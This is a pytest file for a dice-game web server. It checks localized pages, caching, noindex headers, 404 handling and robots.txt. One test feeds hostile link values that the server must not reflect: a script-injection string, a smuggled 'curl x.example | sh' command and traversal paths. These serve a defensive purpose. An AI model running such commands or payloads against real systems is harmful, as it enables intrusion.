"""The pages for play: in the reader's language, alike for every code, kept as long as is right."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from cubilete.i18n import LANGUAGES, catalogue
from cubilete.server.files import ASK_AGAIN, BUILT, FOR_GOOD
from tests.server.small_page import FONT, ICON, SCRIPT, small_page
from tests.server.visits import visiting

SHELLS = (
    "/",
    "/move",
    "/t/ABCDEFGH",
    "/t/ABCDEFGH/replay",
    "/learn/good_milk",
    "/learn/liars-dice",
    "/odds",
    "/odds/ship-captain-crew",
)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_the_home_page_says_what_it_is(tmp_path: Path, language: str) -> None:
    """In each language there are a title, a sentence and a way to the rules before any script."""
    async with visiting(tmp_path, small_page(tmp_path)) as (place, door):
        said = await (await door.stranger()).ask("GET", "/", **{"Accept-Language": language})

        say = catalogue(language).text
        assert 200 == said.status
        assert f'<html lang="{language}">' in said.data
        assert f"<title>{say('site-title')}</title>" in said.data
        assert say("site-about") in said.data
        assert say("site-no-script") in said.data
        assert f'<link rel="canonical" href="{place.url}/">' in said.data
        assert f'hreflang="{language}" href="{place.url}/?lang={language}"' in said.data
        assert "X-Robots-Tag" not in said.headers
        assert "Accept-Encoding, Accept-Language, Cookie" == said.headers["Vary"]


@pytest.mark.parametrize("path", SHELLS)
async def test_every_address_of_the_page_begins_it(tmp_path: Path, path: str) -> None:
    """Each has the same script; it is asked for each time, and answered with 304 if unchanged."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        ana = await door.stranger()
        said = await ana.get(path)
        again = await ana.ask("GET", path, **{"If-None-Match": said.headers["ETag"]})

        assert 200 == said.status
        assert "text/html; charset=utf-8" == said.headers["Content-Type"]
        assert '<script type="module" crossorigin src="/assets/index-Ab1.js">' in said.data
        assert ASK_AGAIN == said.headers["Cache-Control"]
        assert (304, "") == (again.status, again.data)
        assert said.headers["Content-Security-Policy"] == again.headers["Content-Security-Policy"]


async def test_a_tables_page_is_the_same_for_every_code(tmp_path: Path) -> None:
    """Whoever looks at a link is not told whether the table is there, and no engine lists it."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        ana = await door.guest()
        right = await ana.lay()
        pages = [await ana.get(f"/t/{code}") for code in (right, "00000000")]

        assert [200, 200] == [said.status for said in pages]
        assert pages[0].data == pages[1].data
        assert ["noindex"] * 2 == [said.headers["X-Robots-Tag"] for said in pages]
        assert catalogue("en").text("site-table-about") in pages[0].data
        assert "canonical" not in pages[0].data
        for path in ("/move", "/learn/good_milk", f"/t/{right}/replay"):
            assert "noindex" == (await ana.get(path)).headers["X-Robots-Tag"]


@pytest.mark.parametrize(
    "code",
    [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "ABCDEFGH;%20curl%20x.example%20%7C%20sh",
        "ABCDEFGH/alert?lang=%22%3E%3Cb%20curl%3E",
    ],
)
async def test_what_is_no_code_is_nowhere_on_the_page(tmp_path: Path, code: str) -> None:
    """Nothing that a stranger has put into a link is given to a browser."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        said = await (await door.stranger()).get(f"/t/{code}")

        assert 200 == said.status
        assert not [word for word in ("alert", "curl") if word in said.data]


async def test_parts_of_the_page_are_kept_for_good(tmp_path: Path) -> None:
    """A file whose name changes with its content is asked for once, and comes compressed."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        ana = await door.stranger()
        script = await ana.ask("GET", "/assets/index-Ab1.js", **{"Accept-Encoding": "gzip"})
        font = await ana.session.get(f"{ana.url}/assets/text-400-Gh4.woff2")

        assert SCRIPT == script.data
        assert "gzip" == script.headers["Content-Encoding"]
        assert int(script.headers["Content-Length"]) < len(SCRIPT)
        assert FOR_GOOD == script.headers["Cache-Control"] == font.headers["Cache-Control"]
        assert FONT == await font.read()
        assert ICON == (await ana.get("/favicon.svg")).data


@pytest.mark.parametrize(
    "path",
    [
        "/assets/nothing.js",
        "/assets/..%2Findex.html",
        "/assets/%2e%2e/.stamp",
        "/.stamp",
        "/.vite/manifest.json",
        "/assets/",
        "/index.html",
        "/t/ABCDEFGH/replay/2",
        "/t/ABCDEFGH/..",
        "/learn/chess",
        "/odds/chess",
    ],
)
async def test_nothing_else_can_be_asked_for(tmp_path: Path, path: str) -> None:
    """Only what was listed when the server started is there, under its own name."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        said = await (await door.stranger()).get(path)

        assert (404, "path/unknown") == (said.status, said.code)


@pytest.mark.parametrize("path", ["/nothing", "/learn/chess", "/t/ABCDEFGH/replay/more"])
async def test_a_browser_gets_a_page_where_there_is_nothing(tmp_path: Path, path: str) -> None:
    """With 404 the page begins, which says so; programs get the code, and so do parts of a page."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        ana = await door.stranger()
        said = await ana.ask("GET", path, Accept="text/html,*/*;q=0.8")
        for_programs = await ana.get(path)
        api = await ana.ask("GET", f"/api{path}", Accept="text/html")

        assert (404, "text/html; charset=utf-8") == (said.status, said.headers["Content-Type"])
        assert "/assets/index-Ab1.js" in said.data
        assert "noindex" == said.headers["X-Robots-Tag"]
        assert "ETag" not in said.headers
        assert (404, "path/unknown") == (for_programs.status, for_programs.data["code"])
        assert (404, "path/unknown") == (api.status, api.data["code"])


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_phone_learns_how_to_keep_the_page(tmp_path: Path, language: str) -> None:
    """The manifest is in the reader's language and names an icon that is there."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        ana = await door.stranger()
        said = await ana.get(f"/manifest.webmanifest?lang={language}")
        known = json.loads(said.data)

        assert "application/manifest+json; charset=utf-8" == said.headers["Content-Type"]
        assert (language, catalogue(language).text("site-about")) == (
            known["lang"],
            known["description"],
        )
        assert ["/", "standalone"] == [known["start_url"], known["display"]]
        assert [200] == [(await ana.get(icon["src"])).status for icon in known["icons"]]


async def test_engines_are_told_what_is_for_everybody(tmp_path: Path) -> None:
    """Home and rules may be listed, tables and what programs ask may not."""
    async with visiting(tmp_path, small_page(tmp_path)) as (_, door):
        rules = (await (await door.stranger()).get("/robots.txt")).data.splitlines()

        assert "User-agent: *" == rules[0]
        assert {"Allow: /$", "Allow: /rules", "Disallow: /t/", "Disallow: /api/"} <= set(rules)


async def test_without_a_page_it_is_said_how_to_build_one(tmp_path: Path) -> None:
    """A server from sources that were never built says so, and all else works."""
    async with visiting(tmp_path, tmp_path / "nowhere") as (_, door):
        ana = await door.stranger()
        for path in SHELLS:
            said = await ana.get(path)
            assert 503 == said.status
            assert "The page has not been built: " in said.data
            assert "<code>./play</code>" in said.data
        assert [404, 200, 200] == [
            (await ana.get(path)).status for path in ("/favicon.svg", "/rules", "/health")
        ]


async def test_the_page_that_is_built_is_served(tmp_path: Path) -> None:
    """Everything that the real page's first bytes name is there."""
    async with visiting(tmp_path, BUILT) as (_, door):
        ana = await door.stranger()
        first = (await ana.get("/")).data
        named = re.findall(r'(?:href|src)="(/(?!\?|")[^"]*)"', first)

        assert {"/favicon.svg", "/manifest.webmanifest", "/rules"} <= set(named)
        for path in named:
            async with ana.session.get(ana.url + path) as answer:
                assert 200 == answer.status, path
